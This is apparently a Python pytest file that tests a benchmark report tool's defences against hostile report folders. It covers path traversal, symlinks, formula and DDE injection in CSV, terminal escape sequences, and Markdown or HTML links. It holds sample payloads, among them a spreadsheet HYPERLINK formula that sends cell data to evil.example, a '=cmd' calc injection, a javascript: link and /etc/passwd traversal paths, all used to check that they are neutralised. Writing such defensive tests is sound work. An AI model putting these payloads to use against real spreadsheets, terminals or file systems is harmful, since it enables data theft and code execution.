"""A report folder is untrusted input (issue 29): no file read or written outside it, every
field neutralised for the sink it reaches, every bad input one line.

The folders are fabricated (tests/report_fixtures.py): no training, no framework.
"""

from __future__ import annotations

import base64
import csv
import json
import re
from pathlib import Path

import pytest

from benchmarks import compare, explain, export
from benchmarks.analysis.comparison import compare_records
from benchmarks.record.layout import EXPLAIN_DIR, EXPLAIN_SUMMARY_FILE, RESULTS_FILE, WEIGHTS_DIR
from benchmarks.report import __main__ as report_cli
from benchmarks.report.artifacts import PNG_SIGNATURE, UnsafeName, artifact_path
from benchmarks.report.comparison import render
from tests.report_fixtures import failed_record, make_record, write_results

SECRET = b"the contents of a private file outside the report folder"
# Spreadsheet formulas, terminal sequences, Markdown links and images, in record fields.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
HOSTILE_TEXT = ("=cmd|' /C calc'!A0 \x1b[2J\x1b]0;owned\x07\rfake line \x9b31m "
                "![pixel](https://evil.example/p.png) [click](javascript:alert(1)) "
                "\\[escaped](https://evil.example) \u202eevil")
# Not a real image: the report embeds what starts like a PNG and stops there.
FAKE_PNG = PNG_SIGNATURE + b"a figure explain drew"


def _one_line(text: str) -> str:
    assert text.count("\n") == 1 and text.endswith("\n"), text
    return text.strip()


def _saved(record: dict, run_id: str | None = None) -> dict:
    """`record` as a run that saved its weights, under `run_id` if given."""
    run_id = run_id or record["run_id"]
    return {**record, "run_id": run_id, "artifacts": {"weights_file": f"{run_id}.npz"}}


def _embedded(page: str) -> list[bytes]:
    return [base64.b64decode(data) for data in
            re.findall(r'src="data:image/png;base64,([A-Za-z0-9+/=]+)"', page)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A report folder whose explain.json names files outside it in every way, beside
    honest figures, and whose records hold formulas, terminal sequences and Markdown links;
    rebuilt once by `python -m benchmarks.report`.

    Returns:
        The folder and the command's exit status.
    """
    root = tmp_path_factory.mktemp("hostile")
    secret = root / "secret.txt"
    secret.write_bytes(SECRET)
    outside_png = root / "outside.png"
    outside_png.write_bytes(PNG_SIGNATURE + SECRET)
    records = [_saved(make_record("tf", "proposed_cnn", 0)),
               _saved(make_record("torch", "proposed_cnn", 0), "torch-../../../x"),
               {**failed_record("tf", "proposed_cnn", 1), "run_id": FORMULA,
                "error": HOSTILE_TEXT}]
    folder = write_results(root / "reports", records)
    figures = folder / EXPLAIN_DIR
    figures.mkdir()
    (figures / "honest.png").write_bytes(FAKE_PNG)
    (figures / "link.png").symlink_to(outside_png)
    (figures / "text.png").write_text("not a figure")
    entries = [
        {"run_id": "absolute", "gradcam": str(outside_png), "features": str(secret),
         "gradcam_max_relative_difference": 1e-6},
        {"run_id": "dotdot", "gradcam": "../../outside.png", "features": "../../secret.txt",
         "gradcam_max_relative_difference": "big"},
        {"run_id": "symlink", "gradcam": "link.png", "features": "text.png",
         "gradcam_max_relative_difference": None},
        {"run_id": "honest", "gradcam": "honest.png", "features": None,
         "gradcam_max_relative_difference": 2e-7},
        {"run_id": "big", "gradcam": "honest.png", "gradcam_max_relative_difference": "big"},
        # A NaN map: explain records None (0.0e+00 before: read as perfect parity).
        {"run_id": "nan", "gradcam": "honest.png", "gradcam_max_relative_difference": None},
        "not an object",
    ]
    (figures / EXPLAIN_SUMMARY_FILE).write_text(json.dumps({"runs": entries}))
    status = report_cli.main([str(folder)])
    return folder, status


def test_no_file_outside_the_folder_reaches_the_report(hostile):
    folder, status = hostile
    assert status == 0
    page = (folder / "report.html").read_text()
    embedded = _embedded(page)
    assert FAKE_PNG in embedded  # the honest figure is there: the check can fail
    assert not any(SECRET in png for png in embedded)
    assert base64.b64encode(SECRET)[:40].decode() not in page
    for written in ("report.md", "summary.csv", "runs.csv"):
        assert SECRET.decode() not in (folder / written).read_text()


def test_each_refused_figure_is_one_note_and_the_rest_is_reported(hostile):
    folder, _ = hostile
    page = (folder / "report.html").read_text()
    notes = re.findall(r'<p class="note">([^<]*)</p>', page)
    refused = [n for n in notes if "figure left out" in n]
    # absolute ×2, ../ ×2, the link out, the text file posing as a PNG.
    assert len(refused) == 6, refused
    assert any("absolute&#x27;s gradcam figure left out" in n and "not a plain file name" in n
               for n in refused)
    assert any("symlink&#x27;s gradcam figure left out" in n and "leads out of" in n
               for n in refused)
    assert any("symlink&#x27;s features figure left out" in n and "not a PNG" in n
               for n in refused)
    assert any("run 7 is no object" in n for n in notes)
    # The gallery of mistakes needs the weights: their absence is a note too, not an end.
    assert 'id="headline"' in page and 'id="runs"' in page


def test_a_difference_that_is_no_number_or_not_finite_is_said_so(hostile):
    folder, _ = hostile
    page = (folder / "report.html").read_text()
    assert "frameworks&#x27; maps: 2.0e-07 of a map&#x27;s range" in page
    # The "big" of an edited explain.json (a ValueError before), and a NaN map.
    assert "maps: unreadable (&#x27;big&#x27;)" in page
    assert "maps: not finite (a map holds NaN or Inf)" in page
    assert "maps: 0.0e+00" not in page


def test_the_results_file_and_other_files_are_untouched(hostile):
    folder, _ = hostile
    assert sorted(p.name for p in folder.iterdir()) == [
        EXPLAIN_DIR, "report.html", "report.md", RESULTS_FILE, "runs.csv", "summary.csv"]


@pytest.mark.parametrize("names", [("/etc/passwd",), ("..",), ("a/../../b",), ("a\\b",),
                                   ("",), (None,), (3,), ("nul\0",), (WEIGHTS_DIR, "..")])
def test_artifact_path_takes_plain_names_only(tmp_path, names):
    with pytest.raises(UnsafeName):
        artifact_path(tmp_path, *names)


def test_artifact_path_refuses_a_folder_linked_out(tmp_path):
    folder, elsewhere = tmp_path / "folder", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (folder / EXPLAIN_DIR).symlink_to(elsewhere)
    assert artifact_path(folder, WEIGHTS_DIR, "x.npz") == folder / WEIGHTS_DIR / "x.npz"
    with pytest.raises(UnsafeName, match="leads out of"):
        artifact_path(folder, EXPLAIN_DIR, "x.png")


@pytest.mark.parametrize("field, value", [("run_id", "../../../../TRAV"),
                                          ("weights_file", "/etc/passwd"),
                                          ("weights_file", "../../results.jsonl")])
def test_explain_and_export_refuse_names_out_of_the_folder_before_anything(
        tmp_path, capsys, field, value):
    record = _saved(make_record("tf", "proposed_cnn", 0))
    if field == "run_id":
        record = _saved(record, value)
    else:
        record["artifacts"]["weights_file"] = value
    folder = write_results(tmp_path / "a" / "b" / "c" / "d", [record])
    before = sorted(tmp_path.rglob("*"))
    assert explain.main([str(folder)]) == 2
    error = _one_line(capsys.readouterr().err)
    assert error.startswith("error: ") and "refused" in error
    with pytest.raises(UnsafeName):
        export.report_jobs(folder, None)
    with pytest.raises(UnsafeName):
        export.report_jobs(folder, tmp_path / "onnx")
    assert sorted(tmp_path.rglob("*")) == before


# --- every sink: CSV, Markdown, terminal, HTML -----------------------------------------------

def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as stream:  # as the csv module reads: a CR inside a cell
        return list(csv.DictReader(stream))


def test_csv_cells_a_spreadsheet_would_run_are_quoted(hostile):
    folder, _ = hostile
    honest, _, hostile_run = _csv_rows(folder / "runs.csv")
    assert hostile_run["run_id"] == f"'{FORMULA}"
    assert hostile_run["error"] == f"'{HOSTILE_TEXT}"
    assert honest["run_id"] == "tf-proposed_cnn-synthetic-seed0"  # text as it was
    assert honest["metrics.accuracy"].startswith("0.")  # numbers as they were
    for row in _csv_rows(folder / "runs.csv") + _csv_rows(folder / "summary.csv"):
        # Numbers stay numbers (an interval's low end may be negative); text is neutral.
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values() if cell and not _is_number(cell)), row


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_link_image_or_control_character_forms_in_markdown(hostile):
    folder, _ = hostile
    text = (folder / "report.md").read_text()
    assert "evil.example" in text  # the field is shown ...
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)  # ... inert
    markdown_it = pytest.importorskip("markdown_it")
    tokens = markdown_it.MarkdownIt("commonmark").enable("table").parse(text)
    inline = [child for token in tokens for child in token.children or []]
    assert not [t for t in inline if t.type in ("link_open", "image", "html_inline")]
    assert "pixel" in "".join(t.content for t in inline if t.type == "text")


def test_html_shows_the_fields_as_text(hostile):
    folder, _ = hostile
    page = (folder / "report.html").read_text()
    assert "![pixel](https://evil.example/p.png)" in page  # as text ...
    assert page.count("<img ") == len(_embedded(page))  # ... every image an embedded figure
    assert "&quot;https://evil.example/?leak=&quot;&amp;A1" in page


def test_compare_prints_no_control_character_and_no_markdown_link(tmp_path, capsys):
    ok = make_record("tf", "proposed_cnn", 1)
    before = write_results(tmp_path / "a", [ok])
    after = write_results(tmp_path / "b", [{**failed_record("tf", "proposed_cnn", 1),
                                            "error": HOSTILE_TEXT}])
    assert compare.main([str(before), str(after)]) == 0
    out = capsys.readouterr().out
    assert "REGRESSION (ok in A, not in B)" in out
    assert "\\x1b[2J" in out and "\\rfake line" in out and "\\x9b31m" in out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", out)
    markdown = render(compare_records([ok], [{**failed_record("tf", "proposed_cnn", 1),
                                              "error": HOSTILE_TEXT}]), "A", "B", markdown=True)
    assert "\\[click\\](javascript" in markdown and "![pixel](" not in markdown


@pytest.mark.parametrize("grid_json", ['{"select_by": 5, "choices": "x"}', "[" * 100_000,
                                       '{"choices": []}'])
def test_a_grid_json_of_another_shape_is_one_line_and_exit_2(tmp_path, capsys, grid_json):
    folder = write_results(tmp_path, [make_record("tf", "proposed_cnn", 0)])
    (folder / "grid.json").write_text(grid_json)
    assert report_cli.main([str(folder)]) == 2  # a traceback from deep in the report before
    error = _one_line(capsys.readouterr().err)
    assert "grid.json is unreadable or not what benchmarks.grid writes" in error
    assert "--summary-only" in error
    assert sorted(p.name for p in folder.iterdir()) == ["grid.json", RESULTS_FILE]
